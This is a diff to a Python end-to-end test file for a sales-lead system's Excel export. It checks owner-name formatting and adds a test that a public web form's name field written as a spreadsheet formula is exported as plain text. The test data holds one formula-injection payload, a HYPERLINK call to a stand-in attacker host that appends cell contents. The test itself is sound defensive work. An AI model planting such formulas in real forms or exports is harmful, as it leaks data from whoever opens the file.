@@ -9,6 +9,7 @@ from zoneinfo import ZoneInfo
 
 import httpx
 import pytest
+from gateway.demo_company import PEOPLE
 from openpyxl import load_workbook
 
 from tests.e2e.helpers import assigned_lead, login, submit, web_form
@@ -134,7 +135,26 @@ def test_export_has_zh_headers_and_only_the_rows_the_caller_may_see(client, tagg
     assert rows[0][:6] == ("姓名", "公司", "手机", "邮箱", "省份", "行业")
     companies = {row[1] for row in rows[1:]}
     assert companies == {lead["company"] for lead in tagged["leads"][:3]}
+    # The owner as managers know them: the name, with the username to tell namesakes apart.
+    names = {p.username: p.display_name for p in PEOPLE}
+    owners = {row[rows[0].index("负责人")] for row in rows[1:]}
+    assert owners == {f"{names[lead['owner_username']]}（{lead['owner_username']}）"
+                      for lead in tagged["leads"][:3]}
     created = rows[1][rows[0].index("创建时间")]
     assert isinstance(created, datetime)
     assert abs(created - datetime.now(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)) \
         < timedelta(minutes=10)
+
+
+def test_a_web_form_written_like_a_formula_is_exported_as_plain_text(stack, client) -> None:
+    tag = uuid.uuid4().hex[:8]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看报价")'
+    lead_id = submit(client, stack.intake_api_key,
+                     web_form(name=formula, company=f"{tag}精工")).json()["lead_id"]
+    director = login(client, "director")
+    assigned_lead(client, director, lead_id)
+    response = client.get("/api/v1/leads/export.xlsx", params={"q": tag}, headers=director)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    # The manager opening the export must not run what a stranger typed into a public form.
+    name = sheet.cell(row=2, column=1)
+    assert (name.value, name.data_type) == (formula, "s")
